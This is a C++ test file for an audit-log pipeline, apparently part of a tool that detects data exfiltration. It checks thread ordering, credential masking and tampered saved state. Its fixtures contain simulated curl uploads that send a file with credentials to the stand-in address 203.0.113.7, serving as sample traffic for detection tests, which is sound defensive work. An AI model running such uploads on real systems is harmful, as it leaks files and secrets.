#include "auexfil/pipeline/pipeline.hpp"

#include <atomic>
#include <filesystem>
#include <random>

#include "../facts/host_with_cron.hpp"
#include "../input/files.hpp"
#include "auexfil/facts/mask.hpp"
#include "auexfil/input/state_io.hpp"

/// A front end of its own: no command line, no terminal.
namespace auexfil::test {
namespace {

struct Collected final : facts::Stage {
  std::vector<facts::Fact> facts;
  std::vector<coverage::HostCoverage> hosts;
  bool is_in_order = true;  ///< no fact of a host comes behind its coverage

  void on_fact(const facts::Fact& fact, const facts::FactDetails& /*details*/) override {
    for (const coverage::HostCoverage& host : hosts) {
      is_in_order = is_in_order && host.host != fact.host;
    }
    facts.push_back(fact);
  }
  void on_host(const coverage::HostCoverage& host) override { hosts.push_back(host); }
};

struct Heard final : pipeline::Observer {
  std::vector<std::string> messages;
  std::atomic<std::uint64_t> bytes = 0;

  void on_message(std::string_view /*kind*/, const std::string& text) override {
    messages.push_back(text);
  }
  void on_bytes(std::uint64_t more) override { bytes += more; }
};

/// Five hosts, one folder each, and a folder that holds no log.
class Fleet {
 public:
  Fleet() {
    for (int i = 0; i < 5; ++i) {
      CronHost log;
      const int curl =
          log.tool("/usr/bin/curl", {"curl", "-u", "me:secret", "-T", "f", "http://203.0.113.7/"});
      log.tcp(curl, 5, "203.0.113.7", 80);
      log.send(curl, 5, 1000 * (i + 1));
      log.done(curl, 5);
      folder_.write("host" + std::to_string(i) + "/audit.log", log.text());
    }
    folder_.write("other/notes.txt", "no audit log\n");
  }

  [[nodiscard]] pipeline::Inputs inputs() const {
    std::vector<std::string> paths;
    for (const char* name : {"host0", "host1", "host2", "host3", "host4", "other/notes.txt"}) {
      paths.push_back((std::filesystem::path(folder_.path()) / name).string());
    }
    return pipeline::find_inputs("", paths);
  }

 private:
  input::test::TempFolder folder_;
};

}  // namespace

TEST_CASE("pipeline: hosts are followed by themselves and handed on in order, on any threads") {
  const Fleet fleet;
  const pipeline::Inputs inputs = fleet.inputs();
  std::vector<facts::Fact> first;
  for (const unsigned threads : {1U, 2U, 8U}) {
    CAPTURE(threads);
    pipeline::Options options;
    options.threads = threads;
    Collected collected;
    Heard heard;
    const coverage::ReadSummary summary =
        pipeline::run_hosts(inputs, options, {rules().tools, rules().signs}, collected, heard);
    REQUIRE(collected.facts.size() == 5);
    CHECK(collected.hosts.size() == 5);
    CHECK(collected.is_in_order);
    for (std::uint64_t i = 0; i < 5; ++i) {
      CHECK(collected.facts[i].bytes_out == 1000 * (i + 1));
      CHECK(collected.facts[i].host == collected.hosts[i].host);
    }
    CHECK(heard.bytes == inputs.total_bytes);
    CHECK_FALSE(summary.complete);
    REQUIRE(heard.messages.size() >= 1);
    if (first.empty()) {
      first = collected.facts;
    }
    CHECK(collected.facts == first);
  }
}

TEST_CASE("pipeline: facts come masked where a redactor is given, and as they are where not") {
  const Fleet fleet;
  const pipeline::Inputs inputs = fleet.inputs();
  for (const bool masked : {false, true}) {
    facts::Masker masker;
    pipeline::Options options;
    options.redactor = masked ? &masker : nullptr;
    Collected collected;
    Heard heard;
    static_cast<void>(
        pipeline::run_hosts(inputs, options, {rules().tools, rules().signs}, collected, heard));
    REQUIRE_FALSE(collected.facts.empty());
    CHECK(collected.facts.front().process.argv.at(2) == (masked ? "me:****" : "me:secret"));
    for (const facts::Fact& fact : collected.facts) {
      CHECK((facts::masked(fact) == fact) == masked);
    }
  }
}

TEST_CASE("pipeline: a state that somebody wrote and sealed is read again, refused, or taken up") {
  CronHost log;
  for (int i = 0; i < 40; ++i) {
    const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.7/"});
    log.tcp(curl, 5, "203.0.113.7", 80);
    log.send(curl, 5, 1000 * (i + 1));
    log.done(curl, 5);
    log.exit(curl - 1);
  }
  const std::string text = log.text();
  const auto part = [&](std::size_t of) {
    return text.substr(0, text.find('\n', text.size() * of / 4) + 1);
  };
  input::test::TempFolder folder;
  Heard heard;
  const auto run = [&](const std::string& file, std::vector<pipeline::SavedLog>& saved) {
    folder.write("audit.log", file);
    const std::string path = (std::filesystem::path(folder.path()) / "audit.log").string();
    pipeline::Options options;
    options.threads = 1;
    options.max_open_events = 16;  // else all of it waits there
    options.saved = &saved;
    options.keep_ms = std::int64_t{1} << 36;  // two years
    Collected collected;
    static_cast<void>(pipeline::run_hosts(pipeline::find_inputs("", {path}), options,
                                          {rules().tools, rules().signs}, collected, heard));
    return collected.facts;
  };
  std::vector<pipeline::SavedLog> before;
  for (const std::size_t of : {2U, 3U}) {  // what is over when a run begins is packed by it
    static_cast<void>(run(part(of), before));
    REQUIRE(before.size() == 1);
    before.front().is_found = false;
  }
  std::vector<pipeline::SavedLog> whole = before;
  const std::size_t all = run(text, whole).size();
  REQUIRE(all == 40);
  const std::string state(input::open_state(before.front().tables));
  std::mt19937 random(5);
  std::size_t again = 0;
  for (int i = 0; i < 400; ++i) {
    std::string changed = state;
    // 127 more for a number that has but one byte: past what there is of most.
    changed[random() % changed.size()] = static_cast<char>(i % 2 == 0 ? random() : 0x7f);
    std::vector<pipeline::SavedLog> saved = before;
    saved.front().tables = input::seal_state(changed);
    heard.messages.clear();
    try {
      static_cast<void>(run(text, saved));
      again += heard.messages.empty() ? 0U : 1U;
    } catch (const input::StateRefused&) {
      // Its transfers contradict themselves, which is seen where facts are made of them.
    }
  }
  CHECK(again > 20);
}

TEST_CASE("pipeline: bare events, of all sets") {
  const Fleet fleet;
  Heard heard;
  std::uint64_t events = 0;
  const coverage::ReadSummary summary = pipeline::run_events(
      fleet.inputs(), {}, [&](const audit::Event&, const input::LogSet&) { ++events; }, heard);
  CHECK(events > 0);
  CHECK(events == summary.events);
}

}  // namespace auexfil::test
